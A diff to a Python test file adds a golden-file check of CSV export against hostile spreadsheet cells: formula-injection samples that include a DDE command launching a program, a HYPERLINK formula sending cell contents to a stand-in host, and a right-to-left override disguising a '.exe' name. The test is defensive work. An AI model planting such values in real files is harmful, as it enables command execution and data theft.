@@ -10,7 +10,8 @@ from pathlib import Path
 import pytest
 
 from briefing.command.build import catalog_of
-from briefing.exports.csv_files import csv_files
+from briefing.exports.csv_files import csv_file, csv_files
+from briefing.exports.table import Column, Table
 from briefing.exports.tables import tables
 
 HERE = Path(__file__).parent / "data"
@@ -32,3 +33,35 @@ def test_the_table_is_as_it_was(name: str, files: dict[str, bytes], is_rewriting
 
 def test_every_table_has_a_golden_file(files: dict[str, bytes]) -> None:
     assert sorted(files) == sorted(f"data/{path.name}" for path in HERE.glob("*.csv")) == sorted(f"data/{name}.csv" for name in NAMES)
+
+
+HOSTILE = {
+    "a formula": "=1+1",
+    "a command": "=cmd|' /C calc'!A0",
+    "a function": "@SUM(A1:A9)",
+    "a number of a telephone": "+963 11 000 0000",
+    "a sum": "-1+1",
+    "a number": "-5",
+    "a formula in full-width letters": "＝1+1",
+    "a formula behind a mark that cannot be seen": " \u200f=1+1",
+    "a formula behind a tab": "\t=1+1",
+    "a formula in the second line": "first line\n=1+1",
+    "a formula behind a quotation mark and a comma": 'the "Guard",=1+1',
+    "a formula behind a semicolon": "Guard; =1+1",
+    "a formula behind an Arabic comma": "حرس، =1+1",
+    "a formula behind an apostrophe": "'=1+1",
+    "an address that takes what stands in a cell": '=HYPERLINK("https://harbour.example/?"&A1,"click")',
+    "letters turned round": "\u202etxt.exe\u202c",
+    "a hyphen and a dash": "al-Velmar – the port",
+}
+"""What a record may hold to do harm in a spreadsheet, and what only looks like it."""
+
+
+def test_hostile_cells_are_as_they_were(is_rewriting: bool) -> None:
+    columns = (Column("id", "string", "What it is."), Column("text", "string", "The cell."))
+    rows = list(HOSTILE.items())
+    raw = csv_file(Table("hostile", "Hostile cells.", columns, ("id",), rows))
+    kept = Path(__file__).parent / "hostile_cells.csv"
+    if is_rewriting:
+        kept.write_bytes(raw)
+    assert raw.decode().split("\r\n") == kept.read_bytes().decode().split("\r\n")
